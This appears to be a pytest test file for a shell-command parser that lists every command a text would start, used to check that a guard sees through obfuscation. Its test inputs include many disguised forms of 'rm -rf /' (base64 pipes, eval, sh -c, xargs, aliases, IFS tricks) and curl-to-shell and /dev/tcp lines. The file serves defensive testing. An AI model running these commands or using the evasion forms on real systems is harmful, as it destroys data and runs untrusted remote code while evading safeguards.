"""`shell_commands`: what a text would start, however it is dressed up."""

from __future__ import annotations

import contextlib
import random
import time

import pytest

from invariants.shell.commands import shell_commands
from invariants.values.unknown_text import UnknownText
from invariants.values.value import Failure
from tests.support.shell_text import shown

RM = ["rm", "-rf", "/"]


def started(text: str) -> list[list[str]]:
    """The commands of a text, what is not known of them shown as `<kind>`."""
    return [[shown(word) for word in words] for words in shell_commands(text)]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("", []),
        ("# nothing", []),
        ("ls -la", [["ls", "-la"]]),
        ("a; b && c || d & e\nf", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
        ("a | b |& c", [["a"], ["b"], ["c"]]),
        ("(a; { b; })", [["a"], ["b"]]),
        ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
        ("for i in 1 2; do a $i; done", [["a", "1|2"]]),
        ("while a; do b; done < f", [["<", "f"], ["a"], ["b"]]),
        ("case $x in a|b) c;; *) d;; esac", [["c"], ["d"]]),
        ("f() { a; }; f", [["a"], ["f"], ["a"]]),
        ("function f { a; }", [["a"]]),
        ("X=1 Y=2 a", [["a"]]),
        ("a=(1 $(b)) c", [["b"], ["c"]]),
        (
            "[[ $# -gt 0 && x == ab ]] && c",
            [["[[", "<name>", "-gt", "0"], ["x", "==", "ab", "]]"], ["c"]],
        ),
        ("((i++)); a $((1 + 2))", [["i++"], ["a", "<name>"]]),
        ("((reboot || x))", [["reboot"], ["x"]]),
        ("a 'b c' \"d $e\" f\\ g", [["a", "b c", "d <variable>", "f g"]]),
        (
            # A plain sh has no braces.
            "a {b,c}d {1..3}",
            [["a", "bd", "cd", "1", "2", "3"], ["a", "{b,c}d", "{1..3}"]],
        ),
        ("a <<E\nb\nE\nc", [["a"], ["c"]]),
        ("a <<E\n$(b)\nE", [["a"], ["b"]]),
        ("a <<'E'\n$(b)\nE", [["a"]]),
        ("a > f 2>&1 >> g", [[">", "f"], [">>", "g"], ["a"]]),
        ("a <(b) >(c)", [["b"], ["c"], ["a", "/dev/fd/<name>", "/dev/fd/<name>"]]),
        ("command -v a", [["command", "-v", "a"]]),
        ("sh script.sh", [["sh", "script.sh"]]),
        (
            "docker rm $(docker ps -aq)",
            [["docker", "ps", "-aq"], ["docker", "rm", "<any>*"]],
        ),
    ],
)
def test_what_is_started(text: str, commands: list[list[str]]) -> None:
    """Every command of a list, a branch, a substitution is there, with its words."""
    assert started(text) == commands


@pytest.mark.parametrize(
    "text",
    [
        "r''m -r\\f /",
        "'rm' \"-rf\" /",
        "$'\\x72m' -rf /",
        "{rm,-rf,/}",
        "r\\\nm -rf /",
        "true && (sudo rm -rf /)",
        "env X=1 sudo -n -u root nice -n 5 nohup time timeout -k 3 5s rm -rf /",
        "sudo --some-new-option value rm -rf /",
        "nice -10 ionice -c3 stdbuf -oL setsid rm -rf /",
        "sh -c 'rm -rf /'",
        'bash -lc "rm -rf /"',
        "bash -euo pipefail -c 'rm -rf /'",
        "sh -c \"sh -c 'rm -rf /'\"",
        "env -S 'rm -rf /'",
        "eval 'rm -rf /'",
        "eval rm -rf /",
        'echo "$(rm -rf /)"',
        'echo "`rm -rf /`"',
        "echo ${x:-$(rm -rf /)}",
        "x=$(rm -rf /)",
        "cat <<E\n$(rm -rf /)\nE",
        "sh <<E\nrm -rf /\nE",
        "bash <<< 'rm -rf /'",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "base64 --decode <<< cm0gLXJmIC8K | bash -s",
        "printf '%s -rf /' rm | sh",
        "echo rm -rf / | tee log | cat | at now",
        "find . -exec rm -rf / \\;",
        "find . -execdir sh -c 'rm -rf /' {} +",
        "echo / | xargs rm -rf",
        "echo / | xargs -n 1 -P4 sudo rm -rf",
        "xargs -I{} rm -rf / < list",
        "docker exec -it box sh -c 'rm -rf /'",
        "kubectl exec pod -- rm -rf /",
        "ssh host 'rm -rf /'",
        "su root -c 'rm -rf /'",
        "watch -n 1 'rm -rf /'",
        "busybox rm -rf /",
        "trap 'rm -rf /' EXIT",
        "alias ls='rm -rf /'",
        "ls() { rm -rf /; }; ls",
        "a & rm -rf / &",
        "! time -p rm -rf /",
        "((rm -rf /))",
        "flock /tmp/lock -c 'rm -rf /'",
        "exec rm -rf /",
        "[ -e x ] || command rm -rf /",
    ],
)
def test_no_dress_hides_a_command(text: str) -> None:
    """The command is listed however it is quoted, wrapped, handed on or encoded."""
    assert any(words[:3] == RM for words in started(text))


@pytest.mark.parametrize(
    "text",
    [
        "X=rm; $X -rf /",
        "rm${IFS}-rf${IFS}/",
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "D=/; rm -rf $D",
        'D=/; rm -rf "${D}"',
        "export A='rm -rf'; $A /",
        "for d in /; do rm -rf $d; done",
        "cd / && rm -rf .",
        "cd /usr; cd ..; rm -rf ./*",
        "(cd / && rm -rf *)",
        "pushd /; rm -rf *",
        "env -C / rm -rf .",
        "rm -rf ~/../..",
        'rm -rf "$(echo /)"',
        "rm -rf $(printf /)",
        "f() { sh; }; echo 'rm -rf /' | f",
        "echo 'rm -rf /' | tee >(sh)",
        "echo 'rm -rf /' | echo $(sh)",
        "echo 'rm -rf /' | sh 3<<< true",
        "echo 'rm -rf /' | find . -maxdepth 0 -exec sh \\;",
        "bash //dev/stdin <<< 'rm -rf /'",
        "cd /dev && bash stdin <<< 'rm -rf /'",
        "cat <<E\nx\nE\\\n\nrm -rf /",
        "time -- rm -rf /",
        "echo ${x:-<(rm -rf /)}",
        "[[ x || rm -rf / ]]",
        "alias x='rm -rf'\nx /",
        "x='a[$(rm -rf /)]'; echo $((x))",
        "test -v 'a[$(rm -rf /)]'",
        "jobs -x rm -rf /",
        "mapfile -C 'rm -rf /' -c 1 a",
        "env -S 'rm\\_-rf\\_/'",
        "echo '/,x' | xargs -d, rm -rf",
        "echo / | xargs -I% rm -rf %",
        "find / -exec rm -rf {} +",
        "setpriv rm -rf /",
        "chroot / <<< 'rm -rf /'",
        "sh -c '\"$@\"' _ rm -rf /",
        "sh -c '$0 -rf /' rm",
        "perl -e 'system(\"rm -rf /\")'",
    ],
)
def test_what_the_text_decides_is_followed(text: str) -> None:
    """Variables, directories, functions, aliases, streams: what they hold is what is listed."""
    assert any(words[:3] == RM for words in started(text))


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("$x -rf /", ["<program>", "-rf", "/"]),
        ('"$VENV/bin/python" a.py', ["<program>/bin/python", "a.py"]),
        ("r${y}m -rf /", ["r<variable>m*", "-rf", "/"]),
        ("/bin/r? -rf /", ["/bin/r<glob>", "-rf", "/"]),
        ("rm -rf /e*", ["rm", "-rf", "/e<glob>"]),
        ("nice $n rm", ["rm"]),
        ("docker $x rm -rf /", RM),
        ('sh -c "ls $x"', ["ls", "<variable>*"]),
        ("cat x | xargs rm", ["rm", "<any>*"]),
        ("find . -exec rm {} +", ["rm", "./<below>"]),
        ("if a; then D=/; fi; rm -rf $D", ["rm", "-rf", "<variable>|/*"]),
        ("D=a; a || D=b; rm $D", ["rm", "a|b"]),
        ("while a; do rm $D; D=/; done", ["rm", "<variable>|/*"]),
        ('rm -rf "${B:?}"/*', ["rm", "-rf", "<name>/"]),
        ('cd "$x" && rm -rf *', ["rm", "-rf", "<any>/"]),
        ("psql a < b", ["psql", "a", "<<<", "<any>"]),
    ],
)
def test_what_is_known_in_part_is_said_in_part(text: str, command: list[str]) -> None:
    """A word that only a run would show says what is known of it, and that the rest is not."""
    assert command in started(text)


@pytest.mark.parametrize(
    "text",
    [
        "$x",
        "sudo $x",
        "env -i $x",
        "eval $x",
        'eval "$(ssh-agent)"',
        'sh -c "$x"',
        "bash $x",
        "curl https://a.example/x | sh",
        "bash <(curl https://a.example/x)",
        "bash < <(curl https://a.example/x)",
        "curl https://a.example/x | sudo bash",
        "curl https://a.example/x | python3 -u",
        'python3 -c "$(curl https://a.example/x)"',
        "php <(curl https://a.example/x)",
        "sh < /dev/tcp/a.example/80",
        "sh <&3",
        "source <(curl https://a.example/x)",
        '. /dev/stdin <<< "$x"',
        "cat x | xargs sh -c",
        "cat x | xargs -I% sh -c '%'",
        "echo 'cm0=' | rev | sh",
        "fish -c 'rm -rf /'",
        "pwsh -c 'rm'",
        'su root -c "$x"',
        "sh --new-option -c 'rm'",
        "BASH_ENV=<(a) bash -c :",
        "hash -p /tmp/x ls; ls",
        "IFS=,; X=rm,-rf,/; $X",
    ],
)
def test_what_cannot_be_known_is_listed_as_unknown(text: str) -> None:
    """A command of which nothing is known is there, as one of any words."""
    assert any(words[0] in ("<any>*", "<variable>*") for words in started(text))


@pytest.mark.parametrize(
    "text",
    [
        "exec < /dev/tcp/a.example/80",
        "coproc rm -rf /",
        "a 'b",
        'a "b',
        "a `b",
        "a $(b",
        "a ${b",
        "(a",
        "a)",
        "if a; then b",
        "a ;; b",
        "a <<E",
        "[[ a",
        "a \\",
        "a\0b",
        "a \ufdd0",
        "echo $'\\'; rm -rf / #'",
        'echo "${x:-\'}"; rm; echo "${y:-\'}"',
    ],
)
def test_what_cannot_be_read_is_an_error(text: str) -> None:
    """Text that no shell reads, or that two read in two ways, is never called safe."""
    with pytest.raises(Failure, match="shell_commands"):
        started(text)


@pytest.mark.parametrize(
    "unit",
    [
        *("(", "{ ", "$(", "$((", "`", '"$(', "${a:-", "a=(", "<(a) ", "if a; then ", "[[ "),
        *("{a,b}", "{", "a;", "a ", "'a' ", "\\", "$((a) ", '$(("(") ', "<<a\n", "f() ", "# \n"),
        *("sudo ", "| xargs ", "docker run ", "ssh ", "sh -c 'a' ", "env -S ", "case a in a) "),
    ],
)
def test_cost_is_linear(unit: str) -> None:
    """Anything is answered or refused, without recursion; sixteen times the text, and no more than
    a hundred times the work (what grows with the square would be 256 times).
    """
    few_s, many_s = (_work_s((unit * length)[:length]) for length in (16_384, 262_144))
    assert many_s < 100 * max(few_s, 0.002)


def _work_s(text: str) -> float:
    """What it takes to read the text as it stands, behind a word, and as one that is quoted."""
    begun = time.process_time()
    for attack in (text, "a " + text, '"' + text):
        with contextlib.suppress(Failure):
            started(attack)
    return time.process_time() - begun


def test_text_of_no_sense_never_raises_anything_else() -> None:
    """Whatever stands in it, text gives commands of words, or the one error."""
    signs = ["sh -c ", "'", '"', "$(", ")", "`", "\\", "\n", ";", "|", "&", "<<E", "E\n", "{", "}"]
    signs += [",", "a", " ", "$x", "sudo ", "xargs ", "-I{}", "find ", "-exec ", "((", "))", "[["]
    signs += ["]]", "if ", "then ", "fi", "do ", "done", "case ", "esac", ";;", "(", "<", "${"]
    signs += ["eval ", "=", "#", "1", "é", "\ud800", "trap ", "alias ", "time ", "!", "<(", "$'"]
    chance = random.Random(7)
    for _ in range(3_000):
        text = "".join(chance.choices(signs, k=chance.randrange(1, 25)))
        try:
            commands = shell_commands(text)
        except Failure:
            continue
        assert all(
            words and all(isinstance(word, str | UnknownText) for word in words)
            for words in commands
        )


def test_words_without_a_shell_start_too() -> None:
    """A list is one command's words: nothing is expanded in them, but `sh -c` is followed."""
    assert shell_commands(["rm", "$x", "; a"]) == [["rm", "$x", "; a"]]
    assert shell_commands(["bash", "-lc", "a; b"]) == [["bash", "-lc", "a; b"], ["a"], ["b"]]
    assert ["b", "c"] in shell_commands(["a; b", "c"])
    for faulty in ([], ["rm", 1], {"a": 1}, None):
        with pytest.raises(Failure):
            shell_commands(faulty)


def test_texts_within_texts_end() -> None:
    """Code within code within code is refused at a depth, not followed until memory ends."""
    text = "rm x"
    for _ in range(40):
        text = "eval \\\n eval " + text
    with pytest.raises(Failure):
        started(text)
    assert ["rm", "x"] in started("eval eval eval rm x")
